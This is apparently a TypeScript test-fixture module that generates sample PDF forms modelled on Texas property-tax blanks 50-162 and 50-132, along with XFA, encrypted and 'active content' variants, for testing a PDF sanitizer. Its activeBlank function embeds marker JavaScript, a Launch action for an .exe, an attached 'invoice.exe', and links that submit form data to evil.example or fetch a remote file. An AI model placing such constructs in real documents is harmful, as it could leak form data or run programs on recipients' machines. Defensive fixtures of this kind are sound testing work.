import {
  decodePDFRawStream,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFRawStream,
  PDFStream,
  PDFString,
} from '@cantoo/pdf-lib';

const appointmentTexts = [
  'Appraisal District Name',
  'Name',
  'Telephone Number',
  'Address',
  'City State Zip Code',
  'Appraisal District Account Number',
  'Physical or Situs Address of Property',
  'Legal Description',
  'Appraisal District Account Number_2',
  'Physical or Situs Address of Property_2',
  'Legal Description_2',
  'Name_2',
  'Telephone Number_2',
  'Address_2',
  'City State Zip Code_2',
  'Printed Name',
] as const;

/** A blank like the Comptroller's 50-162: fields with the same names, a radio group, and no field for the signature. */
export async function appointmentBlank(heading = 'Official blank 50-162'): Promise<Buffer> {
  return blank(heading, appointmentTexts, [
    'all property listed for me at the above address',
    'the property(ies) listed below',
    'chief appraiser',
    'appraisal review board',
  ]);
}

/** A blank like the Comptroller's 50-132. */
export async function protestBlank(): Promise<Buffer> {
  return blank(
    'Official blank 50-132',
    [
      'Appraisal District Name',
      'Tax Year',
      'Property Owner Name',
      'Account Number',
      'Opinion of Value',
      'Agent Name',
    ],
    [
      'Incorrect appraised (market) value',
      'Value is unequal compared with other properties',
      'Exemption was denied',
    ],
  );
}

/** A PDF of one page with a heading and these fields. With text fields, it also has a radio group, `Confidential`. */
export async function blank(
  heading: string,
  texts: readonly string[],
  marks: readonly string[] = [],
): Promise<Buffer> {
  const document = await PDFDocument.create();
  const page = document.addPage([612, 792]);
  page.drawText(heading, { x: 40, y: 760, size: 14 });
  const form = document.getForm();
  let y = 735;
  for (const name of texts) {
    y -= 22;
    page.drawText(name, { x: 40, y: y + 4, size: 8 });
    form.createTextField(name).addToPage(page, { x: 260, y, width: 300, height: 16 });
  }
  for (const name of marks) {
    y -= 20;
    page.drawText(name, { x: 60, y: y + 3, size: 8 });
    form.createCheckBox(name).addToPage(page, { x: 40, y, width: 12, height: 12 });
  }
  if (texts.length > 0) {
    const consent = form.createRadioGroup('Confidential');
    consent.addOptionToPage('Yes', page, { x: 40, y: y - 25, width: 12, height: 12 });
    consent.addOptionToPage('No', page, { x: 80, y: y - 25, width: 12, height: 12 });
  }
  return Buffer.from(await document.save());
}

/** A PDF whose form has XFA and no other fields. */
export async function xfaBlank(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  document.getForm().acroForm.dict.set(PDFName.of('XFA'), PDFString.of('<xdp/>'));
  return Buffer.from(await document.save());
}

/** An encrypted PDF. */
export async function encryptedBlank(): Promise<Buffer> {
  const document = await PDFDocument.load(await blank('Protected', ['Name']));
  await document.encrypt({ userPassword: 'secret', ownerPassword: 'secret' });
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

/** A blank with active content in every place where a PDF can have it, each with its own marker text. */
export async function activeBlank(): Promise<Buffer> {
  const document = await PDFDocument.load(await blank('Official blank 50-162', ['Name']));
  const { context, catalog } = document;
  const script = (text: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(text) });
  const page = document.getPage(0).node;
  document.addJavaScript('calc', 'act-named');
  const inStream = context.register(context.flateStream('app.alert("act-stream")'));
  catalog.set(PDFName.of('OpenAction'), context.register(script('app.alert("act-open")')));
  catalog.set(
    PDFName.of('AA'),
    context.obj({ WP: script('app.alert("act-print")'), DP: { S: 'JavaScript', JS: inStream } }),
  );
  page.set(PDFName.of('AA'), context.obj({ O: { S: 'Launch', F: PDFString.of('act-cmd.exe') } }));
  const field = document.getForm().getTextField('Name').acroField;
  field.dict.set(PDFName.of('AA'), context.obj({ K: context.register(script('app.alert("act-typed")')) }));
  await document.attach(Buffer.from('act-program'), 'invoice.exe');
  const link = (action: object) => {
    const mark = {
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 0, 9, 9],
      A: context.register(context.obj(action as never)),
    };
    page.addAnnot(context.register(context.obj(mark as never)));
  };
  link({
    S: 'URI',
    URI: PDFString.of('https://comptroller.texas.gov'),
    Next: script('app.alert("act-next")'),
  });
  link({ S: 'URI', URI: PDFHexString.fromText('javascript:act') });
  link({ S: 'SubmitForm', F: PDFString.of('https://evil.example/take') });
  link({ S: 'GoToR', F: PDFString.of('//evil.example/share.pdf') });
  return Buffer.from(await document.save());
}

/** Returns all objects of a PDF, referenced or not: as text without streams, and the decoded content of the streams. */
export async function objectsOf(pdf: Uint8Array): Promise<{ structure: string; contents: string }> {
  const { context } = await PDFDocument.load(pdf);
  const objects = context.enumerateIndirectObjects().map(([, object]) => object);
  const contents = objects.filter((object) => object instanceof PDFRawStream);
  return {
    structure: objects
      .map((object) => (object instanceof PDFStream ? object.dict : object).toString())
      .join('\n'),
    contents: contents
      .map((object) => Buffer.from(decodePDFRawStream(object).decode()).toString('latin1'))
      .join('\n'),
  };
}
